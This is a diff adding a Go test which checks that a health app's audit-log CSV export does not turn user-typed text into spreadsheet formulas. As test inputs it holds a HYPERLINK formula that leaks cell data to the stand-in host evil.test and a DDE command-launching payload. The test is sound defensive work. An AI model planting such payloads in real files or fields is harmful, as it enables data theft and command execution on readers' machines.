@@ -123,3 +123,51 @@ func TestCheckTheAuditLogFromTheAdminArea(t *testing.T) {
 		}
 	})
 }
+
+// A share's recipient and a connected system's name are typed by people
+// and land in the audit log; opened in a spreadsheet, the export must
+// show them as text, never run them as formulas.
+func TestTheAuditLogExportRunsNoFormulaFromWhatPeopleTyped(t *testing.T) {
+	eachServer(t, func(t *testing.T, s *testServer) {
+		const recipient = `=HYPERLINK("http://evil.test/?leak="&A2,"Open")`
+		const clientName = `@SUM(1+1)*cmd|' /C calc'!A0`
+		carer, admin := s.browser(t), s.browser(t)
+		carer.signIn("carer")
+		mustStatus(t, carer.post("/passport/"+ameliaRef+"/shares", url.Values{"recipient": {recipient}, "days": {"30"}}), http.StatusOK)
+		admin.signIn("admin")
+		var riverside models.Organisation
+		s.db.Where("ods_code = ?", "Y90001").Take(&riverside)
+		keys, _ := publicKeySet(t)
+		registered := admin.post("/clients/new", url.Values{"name": {clientName}, "organisation": {itoa(riverside.ID)},
+			"scopes": {"system/Patient.rs"}, "keys": {keys}})
+		mustStatus(t, registered, http.StatusOK)
+		mustStatus(t, admin.post(registered.url+"/revoke", url.Values{}), http.StatusOK)
+
+		r := admin.get("/audit/export")
+		mustStatus(t, r, http.StatusOK)
+		rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var formulas []string
+		seen := map[string]int{}
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					formulas = append(formulas, cell)
+				}
+				for _, typed := range []string{recipient, clientName} {
+					if strings.Contains(cell, typed) {
+						seen[typed]++
+					}
+				}
+			}
+		}
+		if len(formulas) != 0 {
+			t.Errorf("%d cells of the export start as a formula: %q", len(formulas), formulas)
+		}
+		if seen[recipient] == 0 || seen[clientName] == 0 {
+			t.Errorf("the export no longer shows what was typed: %v", seen)
+		}
+	})
+}
